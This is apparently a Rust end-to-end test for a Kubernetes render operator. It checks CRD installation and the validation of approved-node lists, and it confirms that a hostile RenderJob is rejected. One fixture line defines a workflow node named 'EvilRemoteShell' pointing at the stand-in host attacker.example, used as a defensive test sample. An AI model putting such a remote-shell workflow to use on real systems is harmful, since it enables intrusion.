//! End-to-end against a real cluster: the test control plane of `scripts/services/kubernetes.sh`
//! (`VF_TEST_KUBECONFIG`, as CI runs it), or your own disposable cluster with `VF_E2E=1` and
//! `KUBECONFIG` (kind, k3d, a staging cluster). Skipped without either. It installs the CRDs with
//! server-side apply, applies every example, runs the operator binary and waits for the
//! ApprovedNodeList controller to report `Ready` (and `Ready=False` with an Event for a bad list),
//! then for the RenderJob controller to reject a hostile workflow and approve the example's.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use k8s_openapi::api::core::v1::Namespace;
use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
use kube::api::{DeleteParams, DynamicObject, Patch, PatchParams};
use kube::core::GroupVersionKind;
use kube::discovery::{ApiResource, Discovery};
use kube::runtime::wait::await_condition;
use kube::{Api, Client};
use serde_json::json;
use videofoundry::crd::render_job::{RenderPhase, VettingVerdict};
use videofoundry::crd::{ApprovedNodeList, RenderJob};

mod common;

async fn install_crds(client: &Client) {
    common::cluster::install_crds(client).await;
}

fn operator() -> tokio::process::Command {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_videofoundry-operator"));
    if let (Ok(path), None) = (
        std::env::var("VF_TEST_KUBECONFIG"),
        std::env::var_os("VF_E2E"),
    ) {
        command.env("KUBECONFIG", path);
    }
    command
        .kill_on_drop(true)
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    command
}

#[tokio::test]
async fn operator_reports_missing_crds_then_validates_approved_node_lists() {
    let Some(client) = common::cluster::client().await else {
        return;
    };
    let crds: Api<CustomResourceDefinition> = Api::all(client.clone());

    // Only on a cluster without our CRDs: the operator must refuse to start and name them.
    if crds
        .get_opt("renderjobs.videofoundry.dev")
        .await
        .unwrap()
        .is_none()
    {
        let output = operator()
            .args(["run", "--http-address", "127.0.0.1:0"])
            .output()
            .await
            .unwrap();
        assert!(!output.status.success());
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(".videofoundry.dev is not installed"),
            "{stderr}"
        );
    }

    install_crds(&client).await;
    let namespace = common::cluster::namespace(&client, "e2e").await;
    let namespaces: Api<Namespace> = Api::all(client.clone());

    // Every example is accepted by the real API server (schema, CEL) in our namespace.
    let discovery = Discovery::new(client.clone()).run().await.unwrap();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    for entry in std::fs::read_dir(examples).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|ext| ext != "yaml") {
            continue; // examples/worker/ holds a Dockerfile
        }
        let text = std::fs::read_to_string(path).unwrap();
        for doc in serde_yaml::Deserializer::from_str(&text) {
            let mut object: DynamicObject = serde::Deserialize::deserialize(doc).unwrap();
            object.metadata.namespace = Some(namespace.as_str().to_owned());
            let types = object.types.clone().unwrap();
            let gvk = GroupVersionKind::try_from(&types).unwrap();
            let (resource, _) = discovery.resolve_gvk(&gvk).unwrap();
            let api: Api<DynamicObject> = Api::namespaced_with(
                client.clone(),
                namespace.as_str(),
                &ApiResource::from_gvk_with_plural(&gvk, &resource.plural),
            );
            let name = object.metadata.name.clone().unwrap();
            api.patch(
                &name,
                &PatchParams::apply("videofoundry-e2e").force(),
                &Patch::Apply(&object),
            )
            .await
            .unwrap_or_else(|e| panic!("the API server refused example {name}: {e}"));
        }
    }

    let lists: Api<ApprovedNodeList> = Api::namespaced(client.clone(), namespace.as_str());
    let bad: ApprovedNodeList = serde_json::from_value(json!({
        "apiVersion": "videofoundry.dev/v1alpha1", "kind": "ApprovedNodeList",
        "metadata": {"name": "bad-pins", "namespace": namespace.as_str()},
        "spec": {"nodes": [{"classType": "X", "repository": "github.com/a/b", "commit": "main"}]}
    }))
    .unwrap();
    lists
        .patch(
            "bad-pins",
            &PatchParams::apply("videofoundry-e2e").force(),
            &Patch::Apply(&bad),
        )
        .await
        .unwrap();

    let config = std::env::temp_dir().join("videofoundry-e2e-operator.yaml");
    std::fs::write(&config, format!("httpAddress: 127.0.0.1:0\nwatchNamespace: {namespace}\nleaderElection: {{enabled: true, leaseNamespace: {namespace}}}\n")).unwrap();
    let mut running = operator()
        .args(["run", "--config", config.to_str().unwrap()])
        .spawn()
        .unwrap();

    let ready = |want: &'static str| {
        move |obj: Option<&ApprovedNodeList>| {
            obj.and_then(|o| o.status.as_ref())
                .and_then(|s| s.conditions.iter().find(|c| c.type_ == "Ready"))
                .is_some_and(|c| c.status == want)
        }
    };
    tokio::time::timeout(
        Duration::from_secs(60),
        await_condition(lists.clone(), "studio-approved", ready("True")),
    )
    .await
    .expect("studio-approved did not become Ready within 60s")
    .unwrap();
    let bad = tokio::time::timeout(
        Duration::from_secs(60),
        await_condition(lists.clone(), "bad-pins", ready("False")),
    )
    .await
    .expect("bad-pins did not get Ready=False within 60s")
    .unwrap()
    .unwrap();
    let condition = bad
        .status
        .unwrap()
        .conditions
        .into_iter()
        .find(|c| c.type_ == "Ready")
        .unwrap();
    assert_eq!(condition.reason, "InvalidSpec");
    assert!(
        condition.message.contains("commit must be a full 40-digit"),
        "{}",
        condition.message
    );

    // RenderJobs are vetted by the running operator: a hostile workflow is Rejected for good,
    // the example's benign one is Vetted against the example ApprovedNodeList.
    let renders: Api<RenderJob> = Api::namespaced(client.clone(), namespace.as_str());
    let hostile: RenderJob = serde_json::from_value(json!({
        "apiVersion": "videofoundry.dev/v1alpha1", "kind": "RenderJob",
        "metadata": {"name": "hostile-1", "namespace": namespace.as_str()},
        "spec": {"foundryRef": {"name": "studio"}, "userId": "7f1c0e1a-3b2d-4c5e-8f90-a1b2c3d4e5f6",
                 "workflow": {"inline": r#"{"1": {"class_type": "EvilRemoteShell", "inputs": {"url": "https://attacker.example/x"}}}"#}}
    }))
    .unwrap();
    renders
        .patch(
            "hostile-1",
            &PatchParams::apply("videofoundry-e2e").force(),
            &Patch::Apply(&hostile),
        )
        .await
        .unwrap();
    let phase = |want: RenderPhase| {
        move |obj: Option<&RenderJob>| {
            obj.and_then(|o| o.status.as_ref())
                .is_some_and(|s| s.phase == want && s.vetting.is_some())
        }
    };
    let rejected = tokio::time::timeout(
        Duration::from_secs(60),
        await_condition(renders.clone(), "hostile-1", phase(RenderPhase::Rejected)),
    )
    .await
    .expect("hostile-1 was not Rejected within 60s")
    .unwrap()
    .unwrap();
    let vetting = rejected.status.unwrap().vetting.unwrap();
    assert!(vetting.violation_count >= 2, "{vetting:?}");
    let vetted = tokio::time::timeout(
        Duration::from_secs(60),
        await_condition(
            renders.clone(),
            "trailer-draft-1",
            phase(RenderPhase::Pending),
        ),
    )
    .await
    .expect("trailer-draft-1 was not vetted within 60s")
    .unwrap()
    .unwrap();
    assert_eq!(
        vetted.status.unwrap().vetting.unwrap().verdict,
        VettingVerdict::Approved
    );

    running.start_kill().unwrap();
    let _ = running.wait().await;
    let _ = namespaces
        .delete(&namespace, &DeleteParams::default())
        .await;
}
